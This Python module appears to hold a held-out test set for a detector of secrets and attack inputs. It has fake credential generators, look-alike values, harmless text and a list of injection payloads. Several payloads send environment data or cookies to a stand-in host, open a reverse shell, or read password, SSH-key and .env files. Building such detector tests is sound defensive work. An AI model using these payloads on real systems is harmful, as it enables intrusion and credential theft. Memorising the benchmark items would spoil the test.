r"""A third part: values, attacks and harmless text written after the patterns were tuned on the first part.

Its one blind run is reported beside the later ones (`recognition_quality.FIRST_RUNS`).
"""

from __future__ import annotations

import string

from benchmarks.recognition_attacks import DISGUISES, HELD_OUT_DISGUISES, Disguise
from benchmarks.recognition_harmless import Harmless
from benchmarks.recognition_values import (
    E164,
    HEX,
    INTERNATIONAL,
    NATIONAL,
    LookAlike,
    Sensitive,
    account,
    card,
    digits,
    email,
    jwt,
    letters,
    phone,
    prefixed,
    private_key,
    spanish_dni,
    ssn,
    with_luhn,
)

__all__ = ["BLIND_ATTACKS", "BLIND_DISGUISES", "BLIND_HARMLESS", "BLIND_LOOK_ALIKES", "BLIND_SENSITIVE"]

BLIND_SENSITIVE: tuple[Sensitive, ...] = (
    Sensitive("credit_card", card("visa", ""), ("ccNumber", "debitCardNumber", "card_no", "funding.card.pan"), "plain"),
    Sensitive("credit_card", card("unionpay", " "), ("karteNr", "card"), "spaces", True),
    Sensitive("credit_card", card("amex", "-"), ("amexNumber", "creditCardNo"), "amex dashes", True),
    Sensitive("iban", account("FR", " "), ("beneficiary", "rib", "note"), "FR grouped", True),
    Sensitive("iban", lambda rng: account("NL", "")(rng).lower(), ("rekening", "account"), "lower case", True),
    Sensitive("email", lambda rng: f"{email(rng).split('@', maxsplit=1)[0]}@xn--mnchen-3ya.example", ("owner", "reply_to"), "punycode", True),
    Sensitive("email", lambda rng: f"Anna Weber <{email(rng)}>", ("from", "author"), "with a name", True),
    Sensitive("phone", phone("AU", E164), ("mobileNumber", "notify.to"), "AU E.164", True),
    Sensitive("phone", phone("CH", INTERNATIONAL), ("telefonNr", "hotline"), "CH international", True),
    Sensitive("phone", phone("PL", NATIONAL), ("telefon", "phoneNo"), "PL national"),
    Sensitive("phone", phone("BR", NATIONAL), ("celular", "whatsappNumber"), "BR national"),
    Sensitive("jwt", lambda rng: f"Bearer {jwt(rng)}", ("authorizationHeader", "curl"), "after Bearer", True),
    Sensitive("private_key", private_key("RSA PRIVATE KEY"), ("files.0.content", "env"), "RSA", True),
    Sensitive("aws_access_key", lambda rng: "aws_access_key_id = AK" + "IA" + letters(rng, 16, string.ascii_uppercase + "234567"), ("ini", "config"), "in a file", True),
    Sensitive("github_token", lambda rng: "https://x-access-token:gh" + "o_" + letters(rng, 36) + "@git.example/o/r.git", ("remote", "cloneUrl"), "in an address", True),
    Sensitive("slack_token", lambda rng: "xo" + "xb-" + digits(rng, 11) + "-" + letters(rng, 24), ("integration", "hook"), "short bot", True),
    Sensitive("stripe_key", prefixed("sk_" + "live_", 99), ("billing.key", "provider"), "long", True),
    Sensitive("gitlab_token", prefixed("gl" + "rt-", 20), ("runner", "ci"), "runner", True),
    Sensitive("us_ssn", ssn, ("applicant_ssn", "ssnNumber", "socialSecurityNo"), "dashes"),
    Sensitive("es_dni", spanish_dni, ("numeroDni", "dniTitular"), "plain"),
)  # fmt: skip
BLIND_LOOK_ALIKES: tuple[LookAlike, ...] = (
    LookAlike("gift card code", lambda r: "-".join(letters(r, 4, string.ascii_uppercase) for _ in range(4)), ("giftCard", "code")),
    LookAlike("bookings passing Luhn", lambda r: with_luhn(r, r.choice(["4", "52"]), 16), ("bookingId", "confirmation_id", "eventId", "externalRef")),
    LookAlike("nanoseconds", lambda r: str(1_700_000_000_000_000_000 + r.randrange(10**17)), ("startTimeUnixNano", "at")),
    LookAlike("map tiles", lambda r: f"{r.randrange(20)}/{digits(r, 5)}/{digits(r, 5)}", ("tile", "z")),
    LookAlike("hash with a prefix", lambda r: "sha256:" + letters(r, 64, HEX), ("integrity", "layer")),
    LookAlike("nonce", lambda r: letters(r, 43) + "=", ("nonce", "state", "code_verifier")),
    LookAlike("telephone-like sku", lambda r: f"{digits(r, 3)}.{digits(r, 3)}.{digits(r, 4)}", ("sku", "catalogue_no")),
    LookAlike("decorator", lambda r: f"@{letters(r, 6)}.route", ("decorator", "symbol")),
    LookAlike("ssh remote", lambda _: "git@git.local:team/shop.git", ("remote", "origin")),
    LookAlike("tax on a receipt", lambda r: f"{r.randrange(99)}.{digits(r, 3)}.{digits(r, 3)}/0001-{digits(r, 2)}", ("cnpjMask", "receipt")),
    LookAlike("bits", lambda r: "".join(r.choice("01") for _ in range(16)), ("mask", "flags")),
    LookAlike("score lines", lambda r: " ".join(f"{digits(r, 2)}:{digits(r, 2)}" for _ in range(5)), ("scores", "times")),
    LookAlike("cut token", lambda r: "eyJhbGciOi..." + letters(r, 6), ("tokenHint", "preview")),
)  # fmt: skip
BLIND_ATTACKS: dict[str, tuple[str, ...]] = {
    "sql_injection": ("10' AND '1'='1' --", "1' OR 'x'='x'#", "blue'; DELETE FROM carts; --", "7 UNION SELECT 1, group_concat(email), 3 FROM customers", "1' AND (SELECT 1 FROM dual) = '1", "0 OR 5=5", "a' OR LENGTH(password) > 3 --", "1); SELECT pg_sleep(3)--", "'||(SELECT banner FROM v$version WHERE rownum=1)||'", "2' ORDER BY 7-- -", "1' GROUP BY id HAVING 1=1 --", "x'; CREATE USER evil WITH PASSWORD 'p';--"),
    "nosql_injection": ('{"$ne": "x"}', '{"$gt": 0}', '{"$regex": ".*"}', '{"$nor": [{"a": 1}]}', "x' || this.admin == true || 'a'=='b", '{"$where": "sleep(1000)"}'),
    "command_injection": ("a.png; wget -q http://203.0.113.5/x", "127.0.0.1 && cat /etc/os-release", "$(curl 203.0.113.5)", "`cat /etc/hostname`", "x || ping -n 3 203.0.113.5", "foo; bash -c 'id > /tmp/o'", "| nslookup a.evil.example", "name\n/bin/ls -l", "& dir c:\\", "1; env | curl -d @- http://203.0.113.5", "`nc -e /bin/sh 203.0.113.5 9001`"),
    "path_traversal": ("../../../../../../windows/system32/config/sam", "..%2F..%2F..%2F..%2Fhome%2Fdeploy%2F.ssh%2Fauthorized_keys", "/static/../../../../etc/passwd", "....\\\\....\\\\windows\\\\win.ini", "/etc/passwd%00", "../../../../usr/src/app/.env", "file:///C:/Windows/win.ini", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    "xss": ("<ScRiPt>fetch('//203.0.113.5/'+document.cookie)</sCrIpT>", "<img/src/onerror=alert(1)>", "<svg/onload=confirm`1`>", '"><script>alert(String.fromCharCode(88))</script>', "<div onpointerover=alert(1)>x</div>", "<a href=javascript:void(alert(1))>x", "';alert(1);//", '<iframe srcdoc="<script>alert(1)</script>">', "<audio src=x onerror=alert(1)>"),
    "template_injection": ("{{8*8}}", "${8*8}", "<%=8*8%>", "{{''.__class__.__base__.__subclasses__()[40]('/etc/passwd').read()}}", "${''.getClass().forName('java.lang.Runtime')}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "#{ 8 * 8 }", "{{request['application']['__globals__']}}"),
    "xxe": ('<!DOCTYPE t [ <!ENTITY a SYSTEM "file:///etc/issue"> ]><t>&a;</t>', '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY % q SYSTEM "https://203.0.113.5/q">%q;]><p/>', "<!DOCTYPE k SYSTEM 'http://203.0.113.5/k.dtd'><k>1</k>"),
    "ssrf": ("http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://127.0.0.1:9200/_search", "https://localhost/server-status", "http://192.168.10.4/", "http://[::]:80/", "http://017700000001/", "http://metadata.google.internal/", "http://10.255.0.1:5000/debug", "gopher://10.0.0.2:11211/_stats", "http://app.127.0.0.1.sslip.io/"),
    "log4shell": ("${jndi:ldap://203.0.113.5/o=x}", "${${lower:jndi}:${lower:rmi}://203.0.113.5/x}", "${${::-j}ndi:ldap://203.0.113.5/x}", "${jndi:ldap://127.0.0.1#.evil.example/a}"),
}  # fmt: skip
BLIND_DISGUISES: dict[str, tuple[Disguise, frozenset[str]]] = DISGUISES | HELD_OUT_DISGUISES
BLIND_HARMLESS: tuple[Harmless, ...] = (
    ("support tickets", ("description", "message"), ("I can't log in, it says 'wrong password' or 'unknown user' -- please help!", "After the update my orders were gone; I tried to delete and create the account again.", "Please drop me a line; my number's in the table below:\n| name | id |\n|---|---|\n| Anna | 7 |", "He wrote: \"let's meet at 5 or 6\"; I said \"ok\".")),
    ("job adverts", ("text", "html"), ("<p>We seek a <b>C++ / C#</b> developer (m/f/d) &amp; a data engineer with SQL, select & join experience</p>", "Skills: Bash, Perl, PHP; Linux admin (cat, ls, grep); 40 h/week", "Union representative wanted: select candidates from all departments")),
    ("tutorials", ("markdown", "body"), ("Type `ls -la | less` to page; then `cat file.txt`.", "```python\nimport os\nos.system('ls')\n```\nNever do this with user input!", "An attacker may send `' OR 1=1 --` as the password. Use bound parameters.", "In Jinja, `{{ 7 * 7 }}` prints 49.", "Set `onclick` on the `<button>` element, not on `<div>`.", "SELECT name, count(*) FROM books GROUP BY name HAVING count(*) > 2 ORDER BY 2 DESC")),
    ("chat", ("text", "content"), ("lol <3 <3 >:( ok; brb", "1 or 2? I'd say 2", "he's like 'no way' and she's like 'yes way'", "see you @ 5 | bring id; thx", "price went 10 -> 12 && nobody cares", "wait... what?? -- me, 2024", "{{shrug}}", "$5 or ${10}? haha")),
    ("configuration", ("value", "yaml", "properties"), ("spring.datasource.url=jdbc:mysql://db:3306/shop?useSSL=false", "ON_ERROR=continue; RETRY=3", "cron(0 12 * * ? *)", "if: ${{ github.event_name == 'push' && success() }}", "SELECTOR=app in (web,api),tier!=cache", "{{ $labels.instance }} is down for {{ $value }} minutes", "log_format main '$remote_addr - $remote_user [$time_local]';", 'JAVA_OPTS="-Xmx512m -Dfile.encoding=UTF-8"')),
    ("filters of APIs", ("filter", "where", "q"), ("state in ('open','closed') and owner = 'me'", "price >= 10 and price <= 20 or onSale = true", "name ~ 'shoe' || brand ~ 'x'", "(tags contains 'a') or (tags contains 'b')", "eq(status,'paid')", "created:>2024-01-01 sort:updated-desc", "amount lt 5 or amount gt 500", "status = 'A' or 'B'")),
    ("addresses", ("url", "redirect", "homepage"), ("https://127.example.org/", "https://internal.example.com/careers", "https://shop.example/?next=/admin", "https://192.0.2.44/feed.xml", "http://localhost.example/", "https://docs.example/a;b=c?d=e|f", "mailto:info?subject=Hi", "https://metadata.example/api/latest")),
    ("names", ("name", "company", "title"), ("Dunkin' & Co", "Ben & Jerry's; ice cream", "Select Union Bank", "Table & Chair Ltd -- Berlin", "\"Mad\" Max O'Rourke", "Drop-in Centre #4", "<Unknown Artist>", "Cats & Dogs | Pets", "P!nk; Ke$ha", "Script & Style GmbH")),
    ("files", ("path", "file", "glob"), ("./../shared/lib.ts", "C:\\Users\\me\\..\\you\\a.txt", "/opt/shop/etc/shop.yaml", "**/*.{js,ts}", "src/main/resources/application-{env}.yml", "/home/anna/.config/app.toml", "\\\\nas\\media\\film.mkv", "s3://bucket/a/../b")),
    ("mathematics", ("latex", "formula"), ("\\frac{a}{b} < \\sqrt{c} & d", "x^{2} \\cdot {{y}}", "for all x: x<1 or x>2", "P(A|B) = P(A and B)/P(B)", "a'b' = (ab)'", "{1,2,3} | {4}")),
)  # fmt: skip
